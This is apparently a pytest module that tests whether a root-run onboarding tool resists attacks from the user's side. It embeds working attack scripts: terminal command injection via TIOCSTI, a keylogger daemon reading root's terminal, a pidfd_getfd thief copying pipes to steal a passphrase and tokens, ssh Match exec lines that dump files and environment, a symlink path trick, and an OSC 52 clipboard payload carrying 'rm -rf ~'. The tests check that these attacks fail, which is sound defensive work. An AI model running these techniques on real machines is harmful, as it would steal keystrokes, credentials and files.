"""More of the attacker's moves against `onboard ... --user NAME` run by root (issue #11).

tests/test_privilege.py plays the findings of the issue; this module plays what a second
round of attacks found: the user's code reaching root's terminal, root's process state
(working directory, environment, hand-off pipe) reaching the user. Same kit, same promises:
nothing of root's is damaged, read or run for the user. DESIGN.md, "Root acting for a user".
"""

from __future__ import annotations

import base64
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from helpers.attacker import (
    AS_AN_ACCOUNT,
    Account,
    as_user,
    onboard_as_root,
    onboard_as_root_on_a_terminal,
    root_file,
    start_onboard_as_root,
)
from helpers.sshd import Sshd

pytestmark = AS_AN_ACCOUNT

PYTHON = os.path.realpath(sys.executable)


# -- fixtures: one account for the module (useradd is slow); each test resets its home -----------


def pins(sshd: Sshd, vault: Path) -> Path:
    return root_file(vault / "pins.toml", sshd.providers_toml())


def ssh_config(acct: Account, text: str) -> None:
    as_user(acct, f"cat > {acct.home}/.ssh/config <<'EOF'\n{text}\nEOF\nchmod 600 {acct.home}/.ssh/config")


def user_key(acct: Account) -> Path:
    key = acct.home / ".ssh" / "id_ed25519"
    as_user(acct, f"ssh-keygen -q -t ed25519 -N '' -C {acct.name}@test -f {key}")
    return key


# -- root's terminal ----------------------------------------------------------------------------
_INJECT = r"""
import fcntl, os, sys, termios
LOG = sys.argv[1]
done = []
for how in ("/dev/tty", 0, 1, 2):
    try:
        fd = os.open(how, os.O_RDWR) if isinstance(how, str) else how
        for c in b"echo PWNED-AS-UID-$(id -u)\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
        done.append(str(how) + ": pushed")
        break
    except OSError as exc:
        done.append(str(how) + ": " + str(exc))
with open(LOG, "a") as f:
    f.write("; ".join(done) + "\n")
"""


@pytest.mark.sshd
def test_users_ssh_config_cannot_type_commands_into_roots_terminal(user: Account, vault: Path, sshd: Sshd,
                                                                   bare_repo: str) -> None:
    """`onboard clone URL --user NAME` typed by root on a terminal: git shows its progress there, so
    git and the ssh it runs (and the user's `Match exec`) shared root's session and controlling
    terminal. TIOCSTI from the user's Match exec pushed a command into the terminal's input,
    which root's shell reads and runs as uid 0 once onboard exits (the su/sudo tty-pushback
    attack). The user's processes must never share root's controlling terminal."""
    log = user.home / "inject-log"
    as_user(user, f"cat > {user.home}/inject.py <<'EOF'\n{_INJECT}\nEOF")
    ssh_config(user, f'Match exec "{PYTHON} -I {user.home}/inject.py {log}; exit 1"')
    sshd.authorize(Path(str(user_key(user)) + ".pub"))
    r = onboard_as_root_on_a_terminal(user, "clone", sshd.url(bare_repo), "-y", "--key-type", "ed25519",
                                      "--providers-file", str(pins(sshd, vault)))
    tried = log.read_text() if log.exists() else ""
    assert tried, f"the user's Match exec never ran: nothing was tried\n{r.output}"
    assert b"PWNED" not in r.pending_input, (
        "the user's ssh config pushed a command into root's terminal; root's shell runs it next:\n"
        f"{r.pending_input!r}\n(Match exec said: {tried})")
    assert r.returncode == 0, r.output


_KEYLOGGER = r"""
import os, sys, signal
loot = sys.argv[1]
if not os.isatty(2) or os.fork():
    sys.exit(1)  # ssh's Match exec returns at once; with a terminal, a grandchild stays behind
os.setsid()
if os.fork():
    os._exit(0)
signal.alarm(60)
try:
    data = b""
    while b"\n" not in data:
        chunk = os.read(2, 1024)  # root's terminal, inherited as stderr
        if not chunk:
            break
        data += chunk
except OSError as exc:
    data = repr(exc).encode()
with open(loot + ".part", "wb") as f:
    f.write(data)
os.rename(loot + ".part", loot)
"""


@pytest.mark.sshd
def test_users_ssh_config_cannot_read_what_root_types_after_the_run(user: Account, vault: Path, sshd: Sshd,
                                                                    bare_repo: str) -> None:
    """The same clone on root's terminal: a daemon forked by the user's `Match exec` keeps the
    terminal it was given as stderr and reads what root types after onboard has exited (a
    password for the next sudo, a secret pasted at the prompt)."""
    loot = user.home / "keys-typed-by-root"
    as_user(user, f"cat > {user.home}/keylog.py <<'EOF'\n{_KEYLOGGER}\nEOF")
    ssh_config(user, f'Match exec "{PYTHON} -I {user.home}/keylog.py {loot}"')
    sshd.authorize(Path(str(user_key(user)) + ".pub"))
    r = onboard_as_root_on_a_terminal(user, "clone", sshd.url(bare_repo), "-y", "--key-type", "ed25519",
                                      "--providers-file", str(pins(sshd, vault)),
                                      typed_after=b"root-typed-secret-42\n", wait_for=loot)
    stolen = loot.read_bytes() if loot.exists() else b""
    assert b"root-typed-secret-42" not in stolen, f"the user's daemon read what root typed on its terminal: {stolen!r}"
    assert r.returncode == 0, r.output


@pytest.mark.sshd
@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGHUP], ids=["ctrl-c", "hang-up"])
def test_ctrl_c_and_hang_up_to_root_reach_the_user_side(user: Account, vault: Path, sshd: Sshd, bare_repo: str,
                                                        signum: int) -> None:
    """The user side has no controlling terminal (its own session, so that nothing of the user's
    can push input into root's terminal): the terminal's Ctrl-C and hang-up reach root alone,
    which passes them on; the run unwinds (exit 130) and leaves no half-made clone."""
    started = user.home / "proxy-started"
    ssh_config(user, f"Host *\n  ProxyCommand /bin/sh -c 'touch {started}; exec sleep 120'")
    sshd.authorize(Path(str(user_key(user)) + ".pub"))
    p = start_onboard_as_root(user, "clone", sshd.url(bare_repo), "-y", "--key-type", "ed25519",
                              "--providers-file", str(pins(sshd, vault)))
    try:
        deadline = time.monotonic() + 60
        while not started.exists() and p.poll() is None and time.monotonic() < deadline:
            time.sleep(0.05)
        assert started.exists(), "the clone never reached ssh"
        p.send_signal(signum)
        out = p.communicate(timeout=60)[0].decode(errors="replace")
    finally:
        if p.poll() is None:
            p.kill()
    assert p.returncode == 130, f"expected exit 130 after the signal, got {p.returncode}:\n{out}"
    assert not (user.home / bare_repo[:-4]).exists(), f"a half-made clone was left behind:\n{out}"


def _shquote(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"


# -- the hand-off pipe ----------------------------------------------------------------------------
PASSPHRASE = "pp-Redteam-5b3c1f"
TOKEN = "ghp_rootsRedteamTokenMustNotLeak7"

_FD_THIEF = r"""
import ctypes, os, sys
loot = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
me, base, seen, held = os.getuid(), os.getpid(), set(), []
while True:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) <= base or pid in seen:
            continue
        try:
            if os.stat("/proc/" + pid).st_uid != me:
                continue
            with open("/proc/" + pid + "/cmdline", "rb") as f:
                if b"onboard" not in f.read():
                    continue
            seen.add(pid)
            with open(loot + ".tried", "a") as out:
                out.write(pid + "\n")
            pidfd = os.pidfd_open(int(pid))
            for fd in os.listdir("/proc/" + pid + "/fd"):
                if int(fd) < 3 or not os.readlink("/proc/" + pid + "/fd/" + fd).startswith(("pipe:", "socket:")):
                    continue
                mine = libc.syscall(438, pidfd, int(fd), 0)  # pidfd_getfd: a copy of the process's fd
                if mine < 0:
                    continue
                os.set_blocking(mine, False)
                held.append(mine)
        except OSError:
            continue
    for mine in held:  # whatever root sends later over a copied pipe or socket
        try:
            data = os.read(mine, 1 << 20)
        except OSError:
            continue
        with open(loot, "ab") as out:
            out.write(data + b"\n")
"""


def test_handoff_pipe_cannot_be_taken_from_the_user_side_before_it_is_non_dumpable(user: Account,
                                                                                   vault: Path) -> None:
    """Found open when root re-executed Python as the user with the secrets on a pipe: that process
    was dumpable until its Python had started, and the user took a copy of the pipe's read end
    with pidfd_getfd (same uid, dumpable: allowed) and read the passphrase and tokens. Now the
    re-executed user side starts as root and is non-dumpable before it is the user's; the secrets
    go over a socket made after that, checked by root (SO_PEERCRED): the thief, copying every pipe
    and socket of every onboard process of the user's and reading them on, gets nothing."""
    from helpers.attacker import onboard_as_root, spawn_as_user, stop

    pw = root_file(vault / "pw", PASSPHRASE + "\n", mode=0o600)
    loot = user.home / "loot"
    thief = spawn_as_user(user, f"exec {PYTHON} -IS -c " + _shquote(_FD_THIEF) + f" {loot}")
    try:
        time.sleep(0.3)  # the thief is scanning /proc before root starts
        runs = [onboard_as_root(user, "keygen", "-y", "--force", "--key-type", "ed25519", "--kdf-rounds", "1",
                                "--passphrase-file", str(pw), env={"GITHUB_TOKEN": TOKEN}) for _ in range(3)]
    finally:
        stop(thief)
    stolen = loot.read_bytes() if loot.exists() else b""
    assert Path(f"{loot}.tried").exists(), "the thief never saw an onboard process of the user's: nothing was tried"
    for secret in (PASSPHRASE, TOKEN):
        assert secret.encode() not in stolen and base64.b64encode(secret.encode())[:12] not in stolen, (
            f"the user read {secret!r} from root's hand-off pipe:\n{stolen[:400]!r}\n"
            + "\n".join(r.output[-300:] for r in runs))


# -- root's working directory -----------------------------------------------------------------------
def test_users_ssh_config_cannot_read_files_in_roots_working_directory(user: Account, vault: Path) -> None:
    """Root runs the setup script from a directory of its own: 0755 inside a 0700 directory (say
    /root/setup), so its 0644 files are root's alone. The user side inherited that working
    directory, and so did the user's `Match exec`: a relative path needs no search permission
    above the working directory, so `cat ./file` read root's files."""
    private = vault / "private"
    private.mkdir(mode=0o700)
    scripts = private / "setup"
    scripts.mkdir(mode=0o755)
    secret_word = f"ROOTS-SETUP-SECRET-{time.monotonic_ns()}"
    root_file(scripts / "deploy.env", f"STORAGE_KEY={secret_word}\n")
    loot = user.home / "loot"
    ssh_config(user, f'Match exec "cat ./deploy.env >> {loot} 2>/dev/null; /bin/pwd >> {loot}; exit 1"')
    root_file(vault / "pins.toml", '[providers.local]\nhosts = ["[127.0.0.1]:2222"]\nuser = "git"\n'
                                   'keys = ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"]\n')
    r = onboard_as_root(user, "hosts", "verify", "local", "--offline", "--providers-file", str(vault / "pins.toml"),
                        cwd=scripts)
    ran = loot.read_text() if loot.exists() else ""
    assert ran, f"the user's Match exec never ran: nothing was tried\n{r.output}"
    assert secret_word not in ran, f"the user's Match exec read a file in root's working directory:\n{ran}"
    assert r.returncode == 0, r.output


def test_relative_paths_still_mean_roots_working_directory_when_the_user_can_enter_it(user: Account) -> None:
    """The user side goes back to root's working directory as the user: a relative --key-file run
    from the user's home still lands there (and is the user's)."""
    r = onboard_as_root(user, "keygen", "-y", "--key-type", "ed25519", "--no-passphrase", "--key-file", "relkey",
                        cwd=user.home)
    assert r.returncode == 0, r.output
    key = user.home / "relkey"
    assert key.exists() and key.lstat().st_uid == user.uid, r.output


# -- root's environment -----------------------------------------------------------------------------
CI_TOKEN = "glcbt-rootsJobTokenMustNotLeak9"


def test_roots_ci_job_credentials_never_reach_the_user(user: Account, vault: Path) -> None:
    """The allowlist let every CI_* variable through (meant for the compute instance's CI_NAME and
    CI_LOCAL_UBUNTU_USER), but CI_* is also GitLab CI's namespace: a setup job running as root
    carries CI_JOB_TOKEN, CI_REGISTRY_PASSWORD and CI_REPOSITORY_URL (the job token inside). They
    reached the user side and the user's `Match exec`. The instance's own variables still pass."""
    loot = user.home / "env-seen"
    ssh_config(user, f'Match exec "/usr/bin/env >> {loot}; exit 1"')
    root_file(vault / "pins.toml", '[providers.local]\nhosts = ["[127.0.0.1]:2222"]\nuser = "git"\n'
                                   'keys = ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"]\n')
    env = {"CI_JOB_TOKEN": CI_TOKEN, "CI_REGISTRY_PASSWORD": CI_TOKEN, "CI_DEPLOY_PASSWORD": CI_TOKEN,
           "CI_REPOSITORY_URL": f"https://gitlab-ci-token:{CI_TOKEN}@gitlab.example.com/team/app.git",
           "CI_NAME": "ws-ci-1", "CI_LOCAL_UBUNTU_USER": user.name}
    r = onboard_as_root(user, "hosts", "verify", "local", "--offline", "--providers-file", str(vault / "pins.toml"),
                        env=env)
    seen = loot.read_text() if loot.exists() else ""
    assert seen, f"the user's Match exec never ran: nothing was checked\n{r.output}"
    leaked = [line.split("=")[0] for line in seen.splitlines() if CI_TOKEN in line]
    assert not leaked, f"root's CI credentials reached the user's Match exec: {sorted(set(leaked))}"
    assert "CI_NAME=ws-ci-1" in seen, "the compute instance's CI_NAME no longer reaches the user side"
    assert r.returncode == 0, r.output


# -- root's reading of root-safe inputs ----------------------------------------------------------------
def test_root_reads_the_file_it_checked_not_another_through_a_dot_dot(user: Account, vault: Path) -> None:
    """root_safe checked the textually normalised path (`/tmp/LINK/../pins.toml` -> `/tmp/pins.toml`,
    root's, in sticky /tmp), but the file was opened by the path as given, where the kernel follows
    the user's symlink LINK before `..`: root read a root-only file elsewhere and handed it over."""
    private = vault / "private"
    (private / "sub").mkdir(parents=True, mode=0o700)
    private.chmod(0o700)
    stamp = time.monotonic_ns()
    secret_host = f"root-only-host-{stamp}.internal"
    name = f"onboard-rt-pins-{stamp}.toml"
    root_file(private / name, f'[providers.secret]\nhosts = ["{secret_host}"]\nuser = "git"\n'
                              'keys = ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"]\n',
              mode=0o600)
    checked = root_file(Path("/tmp") / name, '[providers.public]\nhosts = ["public.example.com"]\nuser = "git"\n'
                                             'keys = ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"]\n')
    link = Path("/tmp") / f"onboard-rt-link-{stamp}"
    as_user(user, f"ln -s {private / 'sub'} {link}")
    try:
        r = onboard_as_root(user, "hosts", "list", "--providers-file", f"{link}/../{name}")
    finally:
        link.unlink()
        checked.unlink()
    assert secret_host not in r.output, f"root read {private / name} through the user's symlink:\n{r.output}"
    assert "public.example.com" in r.output, r.output


# -- root's terminal, through onboard's own messages ---------------------------------------------------
@pytest.mark.sshd
def test_escape_sequences_from_the_users_ssh_never_reach_roots_terminal(user: Account, vault: Path, sshd: Sshd,
                                                                      bare_repo: str) -> None:
    """The user's ProxyCommand writes terminal escape sequences on stderr; onboard quoted git's stderr
    in its error message verbatim, so root's terminal received them: OSC 52 sets the clipboard
    (root pastes `rm -rf ~`), OSC 0 the window title. Text from the user's side is shown inert."""
    osc = "\\033]52;c;cm0gLXJmIH4K\\007\\033]0;PWNED\\007"
    ssh_config(user, f"Host *\n  ProxyCommand /bin/sh -c 'printf \"{osc}\" >&2; exit 1'")
    user_key(user)
    r = onboard_as_root(user, "clone", sshd.url(bare_repo), "-y", "--key-type", "ed25519",
                        "--providers-file", str(pins(sshd, vault)))
    assert r.returncode != 0, r.output
    assert "PWNED" in r.output, f"the ProxyCommand's stderr was not shown at all: nothing was checked\n{r.output}"
    assert "\x1b" not in r.output and "\x07" not in r.output, f"escape sequences reached root's terminal: {r.output!r}"


def test_a_passphrase_file_named_in_the_environment_is_read_by_the_user_side(user: Account) -> None:
    """ONBOARD_PASSPHRASE_FILE names a file (here in the user's home: root does not read it); the
    name is an option, not a secret, so it must reach the user side, which reads the file."""
    from helpers.attacker import onboard_as_root

    pw = user.home / "pw"
    pw.write_text("user side passphrase\n")
    os.chown(pw, user.uid, user.uid)
    pw.chmod(0o600)
    r = onboard_as_root(user, "keygen", "-y", "--key-type", "ed25519", "--kdf-rounds", "1",
                        env={"ONBOARD_PASSPHRASE_FILE": str(pw)})
    assert r.returncode == 0, r.output
    key = user.home / ".ssh" / "id_ed25519"
    opened = subprocess.run(["ssh-keygen", "-y", "-P", "user side passphrase", "-f", str(key)], capture_output=True)
    assert opened.returncode == 0 and key.lstat().st_uid == user.uid
